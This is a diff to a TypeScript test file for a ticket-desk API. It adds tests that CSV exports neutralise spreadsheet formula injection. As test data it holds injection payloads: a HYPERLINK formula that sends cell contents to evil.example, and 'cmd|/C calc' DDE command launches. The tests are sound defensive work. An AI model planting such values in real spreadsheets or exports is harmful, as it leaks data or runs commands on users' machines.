@@ -1,5 +1,7 @@
 // Issue 10, "the API must never answer 500 to bad input": instants beyond any sane date, references to
 // rows that do not exist. Every bad case is a 4xx JSON error and leaves the store as it was.
+import { parse } from 'csv-parse/sync';
+import { eq } from 'drizzle-orm';
 import { Api } from 'grammy';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { loadConfig } from '../app/config.ts';
@@ -9,7 +11,7 @@ import { Notifier } from '../bot/notifier.ts';
 import { InvalidInputError } from '../core/errors.ts';
 import { act, type Command } from '../core/tickets/act.ts';
 import { createTicket } from '../core/tickets/create.ts';
-import { outbox, people } from '../db/schema.ts';
+import { companies, memberships, outbox, people } from '../db/schema.ts';
 import { startEmulator } from '../emulator/index.ts';
 import { type Answer, type ApiWorld, apiWorld, call } from './api-harness.ts';
 import { makeWorld, type PersonKey, storeSnapshot } from './fixtures.ts';
@@ -419,7 +421,7 @@ describe('the webhook', () => {
       for (const body of ['{"update_id": 1, "message": ', '', 'null', '[]', '42', '"x"', '{"message": {}}']) {
         const res = await post(body, secret);
         expect(res.status, body).toBe(400);
-        expect((await res.json()).error.code, body).toBe('invalid_input');
+        expect(((await res.json()) as { error: { code: string } }).error.code, body).toBe('invalid_input');
       }
       expect((await post('{"update_id": ', 'wrong-secret')).status).toBe(401);
       // A real update still goes through.
@@ -441,5 +443,98 @@ describe('the webhook', () => {
       await app.stop();
       await emu.close();
     }
+  });
+});
+
+describe('CSV the desk writes', () => {
+  const NASTY = [
+    'x;=1+1;end',
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "a,+cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(A1:A9)',
+    'first line\n=1+1',
+    'tab\t=1',
+    'quote;"=2+2',
+    '\t-lead',
+  ];
+  const FORMULA = /^[=+\-@\t\r]/;
+
+  /** Every cell as a CSV reader sees it, and every piece Excel could cut a line into on ";" or ",". */
+  function assertSafe(text: string, separator: ';' | ',', where: string): string[][] {
+    expect(text.startsWith('\uFEFF'), where).toBe(true);
+    const body = text.slice(1);
+    const rows = parse(body, { delimiter: separator, relax_column_count: true }) as string[][];
+    for (const cell of rows.flat())
+      expect(cell, `${where}: cell ${JSON.stringify(cell)}`).not.toMatch(FORMULA);
+    // Opened with the other list separator, or cut at line breaks inside quoted cells: no piece (past the
+    // quotes and spaces it may start with) is a formula.
+    for (const piece of body.split(/[;,\r\n]/)) {
+      expect(piece.replace(/^[" ]+/, ''), `${where}: piece ${JSON.stringify(piece)}`).not.toMatch(FORMULA);
+    }
+    return rows;
+  }
+
+  it('neutralises formulas at the start of a cell and after every separator, in Russian and English', async () => {
+    const w = apiWorld();
+    for (const [i, subject] of NASTY.entries()) {
+      createTicket(w.ctx, w.as.clientA, { channel: 'telegram', subject, description: `${subject} ${i}` });
+    }
+    const evil = w.ctx.db
+      .insert(companies)
+      .values({ name: 'Evil;=cmd|" /C calc"!A0', createdAt: 0 })
+      .returning()
+      .get();
+    const mole = w.ctx.db
+      .insert(people)
+      .values({ name: '-Mole, =1+1', phone: '+79160000001', createdAt: 0 })
+      .returning()
+      .get();
+    w.ctx.db.insert(memberships).values({ personId: mole.id, role: 'client', companyId: evil.id }).run();
+    const now = w.clock.now();
+    for (const language of ['ru', 'en'] as const) {
+      w.ctx.db.update(people).set({ language }).where(eq(people.id, w.ids.admin)).run();
+      const list = await call(w, 'admin', 'GET', '/api/tickets/export.csv');
+      expect(list.status).toBe(200);
+      const rows = assertSafe(list.text, ',', `${language} ticket list`);
+      // Each subject reads back whole, its formulas behind a quote mark.
+      const cells = rows.flat();
+      expect(cells).toContain("x;'=1+1;end");
+      expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A1)');
+      expect(cells).toContain("'@SUM(A1:A9)");
+      expect(cells).toContain("first line\n'=1+1");
+      const report = await call(
+        w,
+        'admin',
+        'GET',
+        `/api/reports/export.csv?from=${now - 30 * DAY}&to=${now + DAY}`,
+      );
+      expect(report.status).toBe(200);
+      expect(assertSafe(report.text, ',', `${language} report`).flat()).toContain('quote;"\'=2+2');
+      const directory = await call(w, 'admin', 'GET', '/api/admin/directory/export.csv');
+      expect(directory.status).toBe(200);
+      const entries = assertSafe(directory.text, ';', `${language} directory`).flat();
+      expect(entries).toContain('Evil;\'=cmd|" /C calc"!A0');
+      expect(entries).toContain("'-Mole, '=1+1");
+      expect(entries).toContain("'+79160000001");
+    }
+  });
+
+  it('reads a directory it exported back as it was (the quote marks taken off again)', async () => {
+    const w = apiWorld();
+    const evil = w.ctx.db.insert(companies).values({ name: 'Evil;=cmd', createdAt: 0 }).returning().get();
+    const mole = w.ctx.db
+      .insert(people)
+      .values({ name: 'Mole, =1+1', phone: '+79160000001', createdAt: 0 })
+      .returning()
+      .get();
+    w.ctx.db.insert(memberships).values({ personId: mole.id, role: 'client', companyId: evil.id }).run();
+    const exported = await call(w, 'admin', 'GET', '/api/admin/directory/export.csv');
+    const preview = await call(w, 'admin', 'POST', '/api/admin/directory/preview', exported.text, {
+      'Content-Type': 'text/csv',
+    });
+    expect(preview.status).toBe(200);
+    expect(preview.json.counts).toMatchObject({ total: 6, unchanged: 6 });
+    expect(preview.json.rows.at(-1)).toMatchObject({ company: 'Evil;=cmd', name: 'Mole, =1+1' });
   });
 });
